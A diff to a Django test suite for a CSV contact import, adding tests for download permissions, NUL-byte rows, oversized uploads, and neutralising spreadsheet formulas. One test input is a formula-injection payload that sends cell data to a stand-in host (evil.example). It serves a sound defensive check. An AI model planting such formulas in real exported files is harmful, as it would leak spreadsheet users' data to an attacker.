@@ -1,16 +1,20 @@
 """The CSV import: checks before anything is stored, the chunked upsert, the pages and the API."""
+import csv
+import io
 import shutil
 import tempfile
 from unittest import mock
 
 from django.contrib.auth.models import User
 from django.core.files.uploadedfile import SimpleUploadedFile
+from django.core.files.uploadhandler import TemporaryFileUploadHandler
 from django.test import TestCase, override_settings
 from django_celery_results.models import TaskResult
 
 from contacts import services
 from contacts.models import Contact, ContactImport
 from jobs.models import JobRecord
+from tests.users import grant
 
 
 def csv_upload(text: str, name: str = "contacts.csv") -> SimpleUploadedFile:
@@ -118,12 +122,44 @@ class ImportTests(TestCase):
         self.assertEqual(response.status_code, 413)
         self.assertEqual(ContactImport.objects.count(), 2)
 
-    def test_errors_download_is_for_the_uploader_and_staff(self):
+    def test_errors_download_is_for_the_uploader_and_those_with_the_view_permission(self):
         contact_import = self.upload("email,name\nbad,Bad\n")
         services.contact_import_run(import_id=contact_import.pk, report_progress=mock.Mock())
-        self.client.force_login(User.objects.create_user("someone"))
+        someone = User.objects.create_user("someone", is_staff=True)
+        self.client.force_login(someone)
         self.assertEqual(self.client.get(f"/imports/{contact_import.pk}/errors.csv").status_code, 404)
+        self.client.force_login(grant(someone, "contacts.view_contactimport"))
+        self.assertEqual(self.client.get(f"/imports/{contact_import.pk}/errors.csv").status_code, 200)
         self.client.force_login(self.user)
         response = self.client.get(f"/imports/{contact_import.pk}/errors.csv")
         self.assertEqual(response["Content-Type"], "text/csv")
         self.assertIn(b"2,Enter a valid email address.,\"bad,Bad\"", response.content)
+
+    def test_cells_a_spreadsheet_would_run_as_formulas_are_neutralized(self):
+        contact_import = self.upload('email,name\n=HYPERLINK("http://evil.example/?"&A1),Eve\n@SUM(1+1),Mal\n')
+        services.contact_import_run(import_id=contact_import.pk, report_progress=mock.Mock())
+        rows = list(csv.reader(io.StringIO(services.import_errors_csv(contact_import))))
+        self.assertEqual([row[2][:2] for row in rows[1:]], ["'=", "'@"])
+
+    def test_a_row_with_a_nul_byte_is_refused_and_the_rest_imported(self):
+        contact_import = self.upload("email,name\nada@x.io,Ada\nbo@x.io,B\x00o\ncy@x.io,Cy\n")
+        counts = services.contact_import_run(import_id=contact_import.pk, report_progress=mock.Mock())
+        self.assertEqual(counts, {"rows": 3, "imported": 2, "invalid": 1})
+        error = contact_import.errors.get()
+        self.assertEqual((error.line, error.reason, error.raw), (3, "the row contains a NUL character", "bo@x.io,B\\x00o"))
+
+    @override_settings(IMPORT_MAX_BYTES=1000)
+    def test_an_oversized_upload_is_stopped_before_it_is_spooled_and_the_attempt_counts(self):
+        self.client.force_login(self.user)
+        big = csv_upload("email,name\n" + "a@x.io,A\n" * 200_000)  # 1.8 MB against a 1 kB limit
+        with mock.patch.object(TemporaryFileUploadHandler, "receive_data_chunk") as spooled, \
+                override_settings(JOBS_LAUNCH_RATE="1/m"):
+            response = self.client.post("/api/imports/", {"file": big})
+            self.assertEqual(response.status_code, 413)
+            self.assertIn("larger than 1,000 bytes", response.json()["detail"])
+            spooled.assert_not_called()
+            self.assertEqual(self.client.post("/api/imports/", {"file": csv_upload("email,name\na@x.io,A\n")})
+                             .status_code, 429)  # the refused upload was counted
+        response = self.client.post("/imports/", {"file": csv_upload("email,name\n" + "a@x.io,A\n" * 200)})
+        self.assertContains(response, "larger than 1,000 bytes", status_code=413)
+        self.assertFalse(ContactImport.objects.exists())
